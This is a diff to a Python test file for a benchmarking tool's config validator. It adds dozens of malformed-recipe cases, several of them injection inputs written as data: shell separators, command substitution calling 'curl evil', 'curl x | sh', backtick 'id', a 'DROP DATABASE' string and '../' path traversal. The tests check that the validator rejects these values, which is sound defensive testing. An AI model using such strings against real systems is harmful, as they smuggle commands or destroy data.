@@ -10,6 +10,7 @@ import yaml
 
 from aibench.errors import ConfigError
 from aibench.recipes import load_any, load_experiment, load_plan
+from aibench.recipes.validation import load_yaml
 from aibench.services import SERVICES
 
 ROOT = Path(__file__).resolve().parents[2]
@@ -50,8 +51,13 @@ GOOD_EXPERIMENT = {
     "client": "redis-benchmark",
     "sweep": {"clients": [1, 10]},
 }
+LLM_EXPERIMENT = {"service": "llamacpp", "client": "llm"}
+SHELL = "; touch /tmp/aibench-PWNED"  # what an injected command would look like
+UP = "../" * 40  # from any working directory, up to the filesystem root
 
-# (what is broken, file (relative to recipes/ or "config"), content, expected fragments of the message)
+# (what is broken, file (relative to recipes/ or "config"), content, expected fragments of the message).
+# Content is a mapping (written as YAML) or the file's text. Each test runs in a fresh copy of the
+# recipes whose parent is the working directory; the config lists an experiment that uses the file.
 MALFORMED = [
     (
         "config without experiments",
@@ -209,7 +215,7 @@ MALFORMED = [
         "empty file",
         "experiments/redis-default.yaml",
         "",
-        ["expected a mapping of fields at the top level, found empty"],
+        ["field '(top level)'", "expected a mapping of fields, found empty"],
     ),
     (
         "unauthenticated service on another node",
@@ -217,32 +223,516 @@ MALFORMED = [
         {"service": "ollama", "client": "llm", "placement": "other-node"},
         ["field 'placement'", "no authentication"],
     ),
+    # --- the config ---
+    (
+        "config not a mapping",
+        "config",
+        "- redis-default\n",
+        ["field '(top level)'", "expected a mapping of fields, found a list"],
+    ),
+    (
+        "empty experiment list",
+        "config",
+        {"experiments": []},
+        ["field 'experiments'", "should be non-empty"],
+    ),
+    (
+        "duplicated experiment",
+        "config",
+        {"experiments": ["redis-default", "redis-default"]},
+        ["field 'experiments'", "has non-unique elements"],
+    ),
+    (
+        "config key set twice",
+        "config",
+        "experiments: [redis-default]\nresults: r1\nresults: r2\n",
+        ["not valid YAML (line 3, column 1)", "field 'results' is set twice (first on line 2)"],
+    ),
+    (
+        "non-string config key",
+        "config",
+        "experiments: [redis-default]\n1: x\n",
+        ["field '(top level)'", "unknown field(s) 1; allowed:"],
+    ),
+    (
+        "string for a number",
+        "config",
+        {"experiments": ["redis-default"], "monitoring": {"scrape_interval_s": "1s"}},
+        ["field 'monitoring.scrape_interval_s'", "'1s' is not of type 'number'"],
+    ),
+    (
+        "negative queue timeout",
+        "config",
+        {"experiments": ["redis-default"], "slurm": {"queue_timeout_s": -5}},
+        ["field 'slurm.queue_timeout_s'", "-5 is less than or equal to the minimum of 0"],
+    ),
+    (
+        "command substitution in experiment name",
+        "config",
+        {"experiments": ["$(touch /tmp/aibench-PWNED)"]},
+        ["field 'experiments[0]'", "'$(touch /tmp/aibench-PWNED)' does not match the allowed form"],
+    ),
+    (
+        "backticks in experiment name",
+        "config",
+        {"experiments": ["redis-default", "`id`"]},
+        ["field 'experiments[1]'", "'`id`' does not match the allowed form"],
+    ),
+    (
+        "space in experiment name",
+        "config",
+        {"experiments": ["redis default"]},
+        ["field 'experiments[0]'", "'redis default' does not match the allowed form"],
+    ),
+    (
+        "experiment name escaping the results directory",
+        "config",
+        {"experiments": ["../../etc"]},
+        ["field 'experiments[0]'", "'../../etc' does not match the allowed form"],
+    ),
+    (
+        "shell in results",
+        "config",
+        {"experiments": ["redis-default"], "results": "results" + SHELL},
+        ["field 'results'", "does not match the allowed form"],
+    ),
+    (
+        "results at the filesystem root",
+        "config",
+        {"experiments": ["redis-default"], "results": "/"},
+        ["field 'results'", "'/' is the filesystem root or a top-level directory"],
+    ),
+    (
+        "results in a system directory",
+        "config",
+        {"experiments": ["redis-default"], "results": "/etc/aibench"},
+        ["field 'results'", "'/etc/aibench' is in the system directory /etc"],
+    ),
+    (
+        "results escaping into a system directory",
+        "config",
+        {"experiments": ["redis-default"], "results": UP + "usr/share/aibench"},
+        ["field 'results'", "(/usr/share/aibench) is in the system directory /usr"],
+    ),
+    (
+        "results in the working directory itself",
+        "config",
+        {"experiments": ["redis-default"], "results": "."},
+        ["field 'results'", "is the working or workflow directory", "the run's experiment folders would mix"],
+    ),
+    (
+        "newline in results",
+        "config",
+        {"experiments": ["redis-default"], "results": "results\n"},
+        ["field 'results'", "'results\\n' holds the control character '\\n'"],
+    ),
+    (
+        "shell in sbatch options",
+        "config",
+        {"experiments": ["redis-default"], "slurm": {"sbatch_extra": ["--exclusive" + SHELL]}},
+        ["field 'slurm.sbatch_extra[0]'", "does not match the allowed form"],
+    ),
+    (
+        "shell in module name",
+        "config",
+        {"experiments": ["redis-default"], "slurm": {"modules": ["Apptainer/1.3 && curl x | sh"]}},
+        ["field 'slurm.modules[0]'", "does not match the allowed form"],
+    ),
+    # --- service recipes ---
+    (
+        "service recipe not a mapping",
+        "services/redis.yaml",
+        "- kind: redis\n",
+        ["services/redis.yaml: field '(top level)'", "expected a mapping of fields, found a list"],
+    ),
+    (
+        "unknown service recipe key",
+        "services/redis.yaml",
+        {"kind": "redis", "readyness": {"timeout_s": 5}},
+        ["field '(top level)'", "unknown field(s) 'readyness'", "allowed: description, image, kind"],
+    ),
+    (
+        "unknown resource key",
+        "services/redis.yaml",
+        {"kind": "redis", "resources": {"gpu": 1}},
+        ["field 'resources'", "unknown field(s) 'gpu'", "allowed: constraint, cpus, gpus"],
+    ),
+    (
+        "float for an integer",
+        "services/redis.yaml",
+        {"kind": "redis", "resources": {"cpus": 1.5}},
+        ["field 'resources.cpus'", "1.5 is not of type 'integer'"],
+    ),
+    (
+        "absurd memory",
+        "services/redis.yaml",
+        {"kind": "redis", "resources": {"mem_mb": 10**12}},
+        ["field 'resources.mem_mb'", "1000000000000 is greater than the maximum of 4194304"],
+    ),
+    (
+        "negative stop grace",
+        "services/redis.yaml",
+        {"kind": "redis", "stop": {"grace_s": -1}},
+        ["field 'stop.grace_s'", "-1 is less than the minimum of 0"],
+    ),
+    (
+        "NaN timeout",
+        "services/redis.yaml",
+        "kind: redis\nreadiness:\n  timeout_s: .nan\n",
+        ["field 'readiness.timeout_s'", "nan is not a finite number"],
+    ),
+    (
+        "service param set twice",
+        "services/redis.yaml",
+        "kind: redis\nparams:\n  io_threads: 2\n  io_threads: 4\n",
+        ["not valid YAML (line 4, column 3)", "field 'io_threads' is set twice (first on line 3)"],
+    ),
+    (
+        "shell in image",
+        "services/redis.yaml",
+        {"kind": "redis", "image": "docker://redis:7" + SHELL},
+        ["field 'image'", "does not match the allowed form"],
+    ),
+    (
+        "command substitution in partition",
+        "services/redis.yaml",
+        {"kind": "redis", "resources": {"partition": "cpu$(id)"}},
+        ["field 'resources.partition'", "'cpu$(id)' does not match the allowed form"],
+    ),
+    (
+        "trailing newline in partition",
+        "services/redis.yaml",
+        {"kind": "redis", "resources": {"partition": "cpu\n"}},
+        ["field 'resources.partition'", "'cpu\\n' holds the control character '\\n'", "span lines"],
+    ),
+    (
+        "SQL and shell in database name",
+        "services/mysql.yaml",
+        {"kind": "mysql", "params": {"database": "sbtest`; DROP DATABASE mysql; `"}},
+        ["services/mysql.yaml: field 'params.database'", "does not match the allowed form"],
+    ),
+    (
+        "absurd max connections",
+        "services/mysql.yaml",
+        {"kind": "mysql", "params": {"max_connections": 10**9}},
+        ["field 'params.max_connections'", "1000000000 is greater than the maximum of 100000"],
+    ),
+    (
+        "backticks in model alias",
+        "services/llamacpp.yaml",
+        {"kind": "llamacpp", "params": {"model_alias": "smol`id`"}},
+        ["services/llamacpp.yaml: field 'params.model_alias'", "'smol`id`' does not match"],
+    ),
+    # --- client recipes ---
+    (
+        "unknown client recipe key",
+        "clients/redis-benchmark.yaml",
+        {"kind": "redis-benchmark", "timeout": 60},
+        [
+            "field '(top level)'",
+            "unknown field(s) 'timeout'",
+            "allowed: description, kind, params, timeout_s",
+        ],
+    ),
+    (
+        "string client timeout",
+        "clients/redis-benchmark.yaml",
+        {"kind": "redis-benchmark", "timeout_s": "900"},
+        ["field 'timeout_s'", "'900' is not of type 'number'"],
+    ),
+    (
+        "negative client timeout",
+        "clients/redis-benchmark.yaml",
+        {"kind": "redis-benchmark", "timeout_s": -5},
+        ["field 'timeout_s'", "-5 is less than or equal to the minimum of 0"],
+    ),
+    (
+        "zero requests",
+        "clients/redis-benchmark.yaml",
+        {"kind": "redis-benchmark", "params": {"requests": 0}},
+        ["field 'params.requests'", "0 is less than the minimum of 1"],
+    ),
+    (
+        "client recipe syntax error",
+        "clients/redis-benchmark.yaml",
+        "kind: redis-benchmark\nparams: {clients: 5\n",
+        ["clients/redis-benchmark.yaml: not valid YAML (line 3"],
+    ),
+    (
+        "shell in model",
+        "clients/llm.yaml",
+        {"kind": "llm", "params": {"model": "smollm2" + SHELL}},
+        ["clients/llm.yaml: field 'params.model'", "does not match the allowed form"],
+    ),
+    (
+        "command substitution in prompt file",
+        "clients/llm.yaml",
+        {"kind": "llm", "params": {"prompt_file": "$(curl evil)/prompts.txt"}},
+        ["field 'params.prompt_file'", "does not match the allowed form"],
+    ),
+    (
+        "zero rate",
+        "clients/llm.yaml",
+        {"kind": "llm", "params": {"mode": "open", "rate": 0}},
+        ["field 'params.rate'", "0 is less than or equal to the minimum of 0"],
+    ),
+    (
+        "absurd concurrency",
+        "clients/llm.yaml",
+        {"kind": "llm", "params": {"concurrency": 10**9}},
+        ["field 'params.concurrency'", "1000000000 is greater than the maximum of 4096"],
+    ),
+    (
+        "neither requests nor duration",
+        "clients/llm.yaml",
+        {"kind": "llm", "params": {"requests": 0}},
+        ["field 'params.duration_s'", "0 is less than or equal to the minimum of 0", "must then be set"],
+    ),
+    (
+        "backticks in dataset file",
+        "clients/chroma.yaml",
+        {"kind": "chroma", "params": {"dataset": "file", "dataset_file": "`id`.npz"}},
+        ["clients/chroma.yaml: field 'params.dataset_file'", "'`id`.npz' does not match"],
+    ),
+    (
+        "file dataset without a file",
+        "clients/chroma.yaml",
+        {"kind": "chroma", "params": {"dataset": "file"}},
+        ["field 'params.dataset_file'", "should be non-empty", "names the .npz to read"],
+    ),
+    # --- experiment recipes ---
+    (
+        "experiment without service",
+        "experiments/redis-default.yaml",
+        {"client": "redis-benchmark"},
+        ["field '(top level)'", "'service' is a required property"],
+    ),
+    (
+        "unknown experiment key",
+        "experiments/redis-default.yaml",
+        {**GOOD_EXPERIMENT, "sweeps": {"clients": [1]}},
+        ["field '(top level)'", "unknown field(s) 'sweeps'", "allowed: client, client_params"],
+    ),
+    (
+        "experiment key set twice",
+        "experiments/redis-default.yaml",
+        "service: redis\nclient: redis-benchmark\nrepeats: 1\nrepeats: 3\n",
+        ["not valid YAML (line 4, column 1)", "field 'repeats' is set twice (first on line 3)"],
+    ),
+    (
+        "float sweep value for an integer",
+        "experiments/redis-default.yaml",
+        {**GOOD_EXPERIMENT, "sweep": {"clients": [1, 2.5]}},
+        ["field 'sweep.clients[1]'", "2.5 is not of type 'integer'"],
+    ),
+    (
+        "string sweep value for a number",
+        "experiments/redis-default.yaml",
+        {**GOOD_EXPERIMENT, "sweep": {"clients": ["ten"]}},
+        ["field 'sweep.clients[0]'", "'ten' is not of type 'integer'"],
+    ),
+    (
+        "sweep value above the maximum",
+        "experiments/redis-default.yaml",
+        {**GOOD_EXPERIMENT, "sweep": {"clients": [1, 10**9]}},
+        ["field 'sweep.clients[1]'", "1000000000 is greater than the maximum of 10000"],
+    ),
+    (
+        "swept value breaking a rule between parameters",
+        "experiments/redis-default.yaml",
+        {**LLM_EXPERIMENT, "sweep": {"requests": [8, 0]}},
+        [
+            "field 'sweep.requests[1]': with this value, field 'duration_s': 0 is less than or equal",
+            "must then be set",
+        ],
+    ),
+    (
+        "sweep not a mapping",
+        "experiments/redis-default.yaml",
+        {**GOOD_EXPERIMENT, "sweep": ["clients"]},
+        ["field 'sweep'", "['clients'] is not of type 'object'"],
+    ),
+    (
+        "NaN override",
+        "experiments/redis-default.yaml",
+        "service: llamacpp\nclient: llm\nclient_params:\n  mode: open\n  rate: .nan\n",
+        ["field 'client_params.rate'", "nan is not a finite number"],
+    ),
+    (
+        "absurd repeats",
+        "experiments/redis-default.yaml",
+        {**GOOD_EXPERIMENT, "repeats": 1000},
+        ["field 'repeats'", "1000 is greater than the maximum of 100"],
+    ),
+    (
+        "swept prepare-only parameter",
+        "experiments/redis-default.yaml",
+        {"service": "mysql", "client": "sysbench", "sweep": {"tables": [1, 2]}},
+        ["field 'sweep.tables'", "it cannot be swept"],
+    ),
+    (
+        "sweep of a service parameter",
+        "experiments/redis-default.yaml",
+        {**GOOD_EXPERIMENT, "sweep": {"io_threads": [1, 4]}},
+        ["field 'sweep.io_threads'", "not a parameter of client kind 'redis-benchmark'", "known: clients"],
+    ),
+    (
+        "unknown service override",
+        "experiments/redis-default.yaml",
+        {**GOOD_EXPERIMENT, "service_params": {"save": "60 1"}},
+        ["field 'service_params'", "unknown field(s) 'save'"],
+    ),
+    (
+        "shell in service recipe name",
+        "experiments/redis-default.yaml",
+        {**GOOD_EXPERIMENT, "service": "redis" + SHELL},
+        ["field 'service'", "does not match the allowed form"],
+    ),
+    (
+        "path in client recipe name",
+        "experiments/redis-default.yaml",
+        {**GOOD_EXPERIMENT, "client": "../../clients/redis-benchmark"},
+        ["field 'client'", "'../../clients/redis-benchmark' does not match the allowed form"],
+    ),
+    (
+        "shell in sweep parameter name",
+        "experiments/redis-default.yaml",
+        {**GOOD_EXPERIMENT, "sweep": {"clients$(id)": [1]}},
+        ["field 'sweep'", "'clients$(id)' does not match the allowed form"],
+    ),
+    (
+        "shell in a swept string",
+        "experiments/redis-default.yaml",
+        {**LLM_EXPERIMENT, "sweep": {"model": ["smollm2", "x`id`"]}},
+        ["field 'sweep.model[1]'", "'x`id`' does not match the allowed form"],
+    ),
+    (
+        "shell in a service override",
+        "experiments/redis-default.yaml",
+        {"service": "vllm", "client": "llm", "service_params": {"model": "Qwen/Qwen2.5" + SHELL}},
+        ["field 'service_params.model'", "does not match the allowed form"],
+    ),
+    (
+        "tab in an override",
+        "experiments/redis-default.yaml",
+        {**GOOD_EXPERIMENT, "client_params": {"tests": "get\tset"}},
+        ["field 'client_params.tests'", "holds the control character '\\t'"],
+    ),
+    (
+        "client for another service kind",
+        "experiments/redis-default.yaml",
+        {"service": "redis", "client": "llm"},
+        ["field 'client'", "client kind 'llm' (recipe 'llm') drives service kinds", "not 'redis'"],
+    ),
+    (
+        "sweep values with the same point id",
+        "experiments/redis-default.yaml",
+        {**LLM_EXPERIMENT, "sweep": {"model": ["org/model", "org:model"]}},
+        ["field 'sweep.model'", "'org/model' and 'org:model' give the same point id 'model-org+model'"],
+    ),
+    (
+        "too many points",
+        "experiments/redis-default.yaml",
+        {
+            **LLM_EXPERIMENT,
+            "sweep": {"concurrency": list(range(1, 65)), "max_tokens": list(range(1, 65))},
+            "repeats": 3,
+        },
+        ["field 'sweep'", "64 concurrency x 64 max_tokens x 3 repeats make 12288 points", "more than"],
+    ),
+    (
+        "unknown placement",
+        "experiments/redis-default.yaml",
+        {**GOOD_EXPERIMENT, "placement": "any-node"},
+        ["field 'placement'", "'any-node' is not one of ['same-node', 'other-node']"],
+    ),
 ]
+
+
+def experiment_using(where: str) -> str:
+    """A shipped experiment that reads the recipe file ``where`` (relative to recipes/)."""
+    folder, name = where.split("/")[0], Path(where).stem
+    if folder == "experiments":
+        return name
+    field = {"services": "service", "clients": "client"}[folder]
+    return next(
+        p.stem for p in sorted(EXPERIMENTS.glob("*.yaml")) if yaml.safe_load(p.read_text())[field] == name
+    )
 
 
 @pytest.mark.parametrize(("what", "where", "content", "expected"), MALFORMED, ids=[m[0] for m in MALFORMED])
 def test_malformed_file_gives_precise_error(
-    recipes: Path, what: str, where: str, content: object, expected: list[str]
+    recipes: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    what: str,
+    where: str,
+    content: object,
+    expected: list[str],
 ) -> None:
+    monkeypatch.chdir(recipes.parent)
     if where == "config":
         config_file = write(recipes.parent / "config.yaml", content)
     else:
         write(recipes / where, content)
-        config_file = write(recipes.parent / "config.yaml", {"experiments": ["redis-default"]})
+        config_file = write(recipes.parent / "config.yaml", {"experiments": [experiment_using(where)]})
     data = yaml.safe_load(config_file.read_text())
     if isinstance(data, dict):
         data["recipes"] = str(recipes)
     with pytest.raises(ConfigError) as info:
-        load_plan(data, str(config_file), recipes.parent)
+        load_plan(data, str(config_file), recipes.parent, [config_file])
     message = str(info.value)
     expected_file = str(config_file) if where == "config" else str(recipes / where)
     assert message.startswith(expected_file + ":"), message
+    assert "field '" in message or "not valid YAML (line" in message, message
     for fragment in expected:
         assert fragment in message, f"{fragment!r} not in {message!r}"
+    assert not (recipes.parent / "results").exists()
 
 
 def test_malformed_count() -> None:
-    assert len(MALFORMED) >= 10
+    assert len(MALFORMED) >= 35
+    assert len({m[0] for m in MALFORMED}) == len(MALFORMED)
+    assert len({(m[1], repr(m[2])) for m in MALFORMED}) == len(MALFORMED)
+
+
+@pytest.mark.parametrize(
+    "results",
+    [
+        "results",
+        "runs/2024-06-01",
+        "../aibench-results",
+        "{tmp}/scratch/u100/aibench-results",
+        "/tmp/aibench-x",
+    ],
+)
+def test_results_outside_the_working_tree_is_fine(
+    recipes: Path, monkeypatch: pytest.MonkeyPatch, results: str
+) -> None:
+    """Scratch on HPC is outside the repository: only root, system and enclosing directories are refused."""
+    monkeypatch.chdir(recipes.parent)
+    config = {
+        "experiments": ["redis-default"],
+        "recipes": str(recipes),
+        "results": results.format(tmp=recipes.parent),
+    }
+    plan = load_plan(config, "config.yaml", recipes.parent)
+    assert plan.results == Path(config["results"])
+
+
+def test_conditional_rules_accept_the_valid_combination(recipes: Path) -> None:
+    timed = {**LLM_EXPERIMENT, "client_params": {"requests": 0, "duration_s": 5}}
+    assert load_experiment(write(recipes / "experiments" / "timed.yaml", timed), recipes).points
+    from_file = {
+        "service": "chroma",
+        "client": "chroma",
+        "client_params": {"dataset": "file", "dataset_file": "v.npz"},
+    }
+    assert load_experiment(write(recipes / "experiments" / "own.yaml", from_file), recipes).points
+
+
+def test_yaml_merge_keys_may_be_overridden(tmp_path: Path) -> None:
+    text = "base: &b {clients: 1, pipeline: 2}\nover:\n  <<: *b\n  clients: 5\n"
+    assert load_yaml(write(tmp_path / "x.yaml", text))["over"] == {"clients": 5, "pipeline": 2}
 
 
 def test_prepared_data_parameters_cannot_be_swept(recipes: Path) -> None:
